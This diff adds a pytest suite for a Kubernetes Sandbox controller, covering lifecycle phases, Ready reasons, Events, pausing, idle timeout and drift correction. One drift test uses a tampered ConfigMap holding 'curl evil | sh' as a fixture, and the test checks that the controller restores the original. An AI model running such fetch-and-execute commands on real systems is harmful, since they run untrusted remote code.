@@ -1,0 +1,355 @@
+"""The Sandbox lifecycle as a table: for each observed world, the phase, the Ready reason, the
+writes and the Events that the pure decision plans (docs/sandboxes.md lists the same)."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from paddock.api.policy import SandboxPolicySpec
+from paddock.api.sandbox import SandboxSpec
+from paddock.api.workspace import WorkspaceSpec
+from paddock.render.names import ACTIVITY_ANNOTATION
+from paddock.sandboxes.decide import SandboxWorld, decide_sandbox
+from paddock.sandboxes.plan import Create, Delete, Loaded, Patch, Plan
+from support.pods import BOUND, PENDING_PVC, pod, ready_pod, running, terminated, unscheduled
+from support.pods import waiting as waiting_container
+
+Obj = dict[str, Any]
+NOW = datetime(2026, 1, 1, 1, 0, 0, tzinfo=UTC)
+IMAGE = "localhost/sandbox:test"
+
+
+def sandbox(spec: Obj | None = None, status: Obj | None = None, **meta: Any) -> Obj:
+    return {
+        "apiVersion": "paddock.dev/v1alpha1",
+        "kind": "Sandbox",
+        "metadata": {
+            "name": "sbx",
+            "namespace": "team",
+            "uid": "uid-1",
+            "generation": 3,
+            "creationTimestamp": "2026-01-01T00:00:00Z",
+            **meta,
+        },
+        "spec": spec or {"workspaceRef": {"name": "ws"}},
+        "status": status or {},
+    }
+
+
+def world(body: Obj | None = None, **parts: Any) -> SandboxWorld:
+    """A world where everything the sandbox needs exists, and its owned objects do not yet."""
+    body = body or sandbox()
+    spec = SandboxSpec.model_validate(body["spec"])
+    base = SandboxWorld(
+        body,
+        Loaded("sbx", spec),
+        Loaded("ws", WorkspaceSpec(setup=["make"])),
+        Loaded("pol", SandboxPolicySpec()) if spec.policy_ref else None,
+    )
+    return replace(base, **parts)
+
+
+def settled(**parts: Any) -> SandboxWorld:
+    """A world whose ConfigMap, NetworkPolicy and PVC exist as they should."""
+    first = decide_sandbox(world(), IMAGE, NOW)
+    made = {w.obj["kind"]: w.obj for w in first.writes if isinstance(w, Create)}
+    owned = {
+        "configmap": made["ConfigMap"],
+        "network_policy": made["NetworkPolicy"],
+        "pvc": {**made["PersistentVolumeClaim"], **BOUND},
+    }
+    body = parts.pop("sandbox", None)
+    return world(body, **(owned | parts))
+
+
+def decide(w: SandboxWorld, now: datetime = NOW) -> Plan:
+    return decide_sandbox(w, IMAGE, now)
+
+
+def ready(plan: Plan) -> Obj:
+    return next(c for c in plan.status.to_api()["conditions"] if c["type"] == "Ready")
+
+
+def kinds(plan: Plan, write: type) -> list[str]:
+    return sorted(
+        (w.obj["kind"] if isinstance(w, Create) else w.kind)
+        for w in plan.writes
+        if isinstance(w, write)
+    )
+
+
+# Four files of 256 KiB: over the 900 KiB a sandbox's files ConfigMap may hold.
+BIG = WorkspaceSpec.model_validate(
+    {
+        "skills": [
+            {"name": f"f{i}", "file": {"path": f"f{i}", "content": "x" * 262_144}} for i in range(4)
+        ]
+    }
+)
+CASES = {
+    "deleting": (
+        world(sandbox(deletionTimestamp="2026-01-01T00:59:00Z")),
+        "Terminating",
+        None,
+    ),
+    "invalid spec": (
+        world(spec=Loaded("sbx", error="spec.storage.size: bad")),
+        "Failed",
+        "InvalidSpec",
+    ),
+    "workspace not found": (world(workspace=Loaded("ws")), "Pending", "WorkspaceNotFound"),
+    "workspace invalid": (
+        world(workspace=Loaded("ws", error="setup: bad")),
+        "Pending",
+        "WorkspaceInvalid",
+    ),
+    "policy not found": (
+        world(
+            sandbox({"workspaceRef": {"name": "ws"}, "policyRef": {"name": "pol"}}),
+            policy=Loaded("pol"),
+        ),
+        "Pending",
+        "PolicyNotFound",
+    ),
+    "policy invalid": (
+        world(
+            sandbox({"workspaceRef": {"name": "ws"}, "policyRef": {"name": "pol"}}),
+            policy=Loaded("pol", error="commands: bad"),
+        ),
+        "Pending",
+        "PolicyInvalid",
+    ),
+    "secret not found": (world(missing_secrets=["token/key"]), "Pending", "SecretNotFound"),
+    "workspace too large": (
+        world(workspace=Loaded("ws", BIG)),
+        "Failed",
+        "WorkspaceTooLarge",
+    ),
+    "no pod yet": (settled(), "Provisioning", "CreatingPod"),
+    "clone failed": (
+        settled(pod=pod("Failed", init=[terminated("clone", 128, "clone failed: x at main")])),
+        "Failed",
+        "CloneFailed",
+    ),
+    "projection failed": (
+        settled(pod=pod("Failed", init=[terminated("clone", 0), terminated("project", 1)])),
+        "Failed",
+        "ProjectionFailed",
+    ),
+    "setup failed": (
+        settled(
+            pod=pod("Failed", init=[terminated("setup", 2, "setup step failed: make (exit 2)")])
+        ),
+        "Failed",
+        "SetupFailed",
+    ),
+    "other init container failed": (
+        settled(pod=pod("Failed", init=[terminated("extra", 3)])),
+        "Failed",
+        "InitFailed",
+    ),
+    "image pull failed": (
+        settled(pod=pod(containers=[waiting_container("sandbox", "ImagePullBackOff")])),
+        "Provisioning",
+        "ImagePullFailed",
+    ),
+    "pod evicted": (
+        settled(pod=pod("Failed", reason="Evicted", message="low on memory")),
+        "Provisioning",
+        "PodEvicted",
+    ),
+    "pod failed": (settled(pod=pod("Failed", message="node lost")), "Provisioning", "PodFailed"),
+    "volume not bound": (
+        settled(
+            pod=unscheduled("pod has unbound immediate PersistentVolumeClaims."), pvc=PENDING_PVC
+        ),
+        "Provisioning",
+        "VolumeNotBound",
+    ),
+    "unschedulable": (
+        settled(pod=unscheduled("0/2 nodes are available: insufficient cpu.")),
+        "Provisioning",
+        "Unschedulable",
+    ),
+    "starting": (settled(pod=pod()), "Provisioning", "Starting"),
+    "setting up": (
+        settled(pod=pod(init=[terminated("clone", 0), running("setup")])),
+        "SettingUp",
+        "SettingUp",
+    ),
+    "ready": (settled(pod=ready_pod()), "Ready", "Ready"),
+    "paused by the spec": (
+        world(
+            sandbox({"workspaceRef": {"name": "ws"}, "lifecycle": {"paused": True}}),
+            pod=ready_pod(),
+        ),
+        "Paused",
+        "Paused",
+    ),
+    "idle past its timeout": (
+        world(
+            sandbox(
+                {"workspaceRef": {"name": "ws"}, "lifecycle": {"idleTimeout": "30m"}},
+                annotations={ACTIVITY_ANNOTATION: "2026-01-01T00:10:00Z"},
+            ),
+            pod=ready_pod(),
+        ),
+        "Paused",
+        "IdleTimeout",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_the_lifecycle_table(case: str) -> None:
+    observed, phase, reason = CASES[case]
+    plan = decide(observed)
+    status = plan.status.to_api()
+    assert status["phase"] == phase
+    assert status["observedGeneration"] == 3
+    if reason is not None:
+        assert ready(plan)["reason"] == reason
+        assert ready(plan)["observedGeneration"] == 3
+    assert [n.reason for n in plan.notices] == [reason or "Deleting"]  # a change: one Event
+
+
+WARNINGS = {
+    "InvalidSpec",
+    "WorkspaceNotFound",
+    "WorkspaceInvalid",
+    "PolicyNotFound",
+    "PolicyInvalid",
+    "SecretNotFound",
+    "WorkspaceTooLarge",
+    "CloneFailed",
+    "ProjectionFailed",
+    "SetupFailed",
+    "InitFailed",
+    "ImagePullFailed",
+    "PodEvicted",
+    "PodFailed",
+    "VolumeNotBound",
+    "Unschedulable",
+}
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_a_reason_a_user_must_act_on_is_a_warning(case: str) -> None:
+    (notice,) = decide(CASES[case][0]).notices
+    assert notice.type == ("Warning" if notice.reason in WARNINGS else "Normal")
+
+
+def test_missing_inputs_are_looked_for_again_and_nothing_is_created() -> None:
+    for case in ("workspace not found", "policy not found", "secret not found"):
+        plan = decide(CASES[case][0])
+        assert plan.retry_after == 15.0
+        assert plan.writes == []
+
+
+def test_a_new_sandbox_creates_its_configmap_network_policy_pvc_and_pod_owned_by_it() -> None:
+    plan = decide(world())
+    assert kinds(plan, Create) == ["ConfigMap", "NetworkPolicy", "PersistentVolumeClaim", "Pod"]
+    for write in plan.writes:
+        assert isinstance(write, Create)
+        (owner,) = write.obj["metadata"]["ownerReferences"]
+        assert (owner["kind"], owner["uid"], owner["controller"]) == ("Sandbox", "uid-1", True)
+
+
+def test_a_settled_sandbox_plans_no_write_and_no_event_the_second_time() -> None:
+    first = decide(settled(pod=ready_pod()))
+    again = decide(settled(pod=ready_pod(), sandbox=sandbox(status=first.status.to_api())))
+    assert again.writes == []
+    assert again.notices == []
+    assert again.status.to_api() == first.status.to_api()
+
+
+def test_a_drifted_configmap_or_network_policy_is_patched_back() -> None:
+    base = settled(pod=ready_pod())
+    assert base.configmap is not None
+    assert base.network_policy is not None
+    drifted = replace(
+        base,
+        configmap={**base.configmap, "data": {"setup.sh": "curl evil | sh"}},
+        network_policy={**base.network_policy, "spec": {"podSelector": {}}},
+    )
+    plan = decide(drifted)
+    assert kinds(plan, Patch) == ["ConfigMap", "NetworkPolicy"]
+    patch = next(w for w in plan.writes if isinstance(w, Patch) and w.kind == "ConfigMap")
+    assert patch.body == {"data": base.configmap["data"]}
+
+
+def test_pausing_deletes_the_pod_and_keeps_the_volume() -> None:
+    plan = decide(CASES["paused by the spec"][0])
+    assert kinds(plan, Delete) == ["Pod"]
+    assert "PersistentVolumeClaim" not in kinds(plan, Delete)
+
+
+def test_an_evicted_pod_is_deleted_to_be_recreated_without_setup() -> None:
+    plan = decide(CASES["pod evicted"][0])
+    assert kinds(plan, Delete) == ["Pod"]
+
+
+def test_ready_records_timings_and_setup_complete() -> None:
+    plan = decide(settled(pod=ready_pod()))
+    status = plan.status.to_api()
+    assert status["timings"] == {
+        "readyAt": "2026-01-01T00:00:05Z",
+        "readySeconds": 5.0,
+        "setupSeconds": 4.0,
+    }
+    conditions = {c["type"]: c for c in status["conditions"]}
+    assert conditions["SetupComplete"]["status"] == "True"
+    assert conditions["VolumeBound"]["status"] == "True"
+    assert status["workspaceHash"]
+
+
+def test_a_pod_recreated_after_setup_runs_no_init_container() -> None:
+    prepared = decide(settled(pod=ready_pod())).status.to_api()
+    plan = decide(settled(sandbox=sandbox(status=prepared)))
+    (created,) = [w.obj for w in plan.writes if isinstance(w, Create)]
+    assert created["kind"] == "Pod"
+    assert "initContainers" not in created["spec"]
+
+
+def test_a_changed_workspace_is_reported_not_re_prepared() -> None:
+    prepared = decide(settled(pod=ready_pod())).status.to_api()
+    changed = settled(
+        sandbox=sandbox(status=prepared),
+        pod=ready_pod(),
+        workspace=Loaded("ws", WorkspaceSpec(setup=["make", "make test"])),
+    )
+    status = decide(changed).status.to_api()
+    up_to_date = next(c for c in status["conditions"] if c["type"] == "UpToDate")
+    assert (up_to_date["status"], up_to_date["reason"]) == ("False", "WorkspaceChanged")
+    assert status["workspaceHash"] == prepared["workspaceHash"]
+
+
+def test_activity_after_an_idle_pause_resumes_the_sandbox() -> None:
+    spec = {"workspaceRef": {"name": "ws"}, "lifecycle": {"idleTimeout": "30m"}}
+    idle = settled(
+        sandbox=sandbox(spec, annotations={ACTIVITY_ANNOTATION: "2026-01-01T00:10:00Z"}),
+        pod=ready_pod(),
+    )
+    paused = decide(idle).status.to_api()
+    assert paused["phase"] == "Paused"
+    later = NOW + timedelta(minutes=5)
+    still = settled(
+        sandbox=sandbox(spec, paused, annotations={ACTIVITY_ANNOTATION: "2026-01-01T00:10:00Z"})
+    )
+    assert decide(still, later).status.to_api()["phase"] == "Paused"
+    touched = settled(
+        sandbox=sandbox(spec, paused, annotations={ACTIVITY_ANNOTATION: "2026-01-01T01:04:00Z"})
+    )
+    resumed = decide(touched, later)
+    assert resumed.status.to_api()["phase"] == "Provisioning"
+    assert kinds(resumed, Create) == ["Pod"]
+
+
+def test_a_condition_keeps_its_transition_time_while_its_status_holds() -> None:
+    first = decide(settled(pod=pod())).status.to_api()
+    later = decide(settled(sandbox=sandbox(status=first), pod=pod()), NOW + timedelta(hours=1))
+    assert ready(later)["lastTransitionTime"] == "2026-01-01T01:00:00Z"
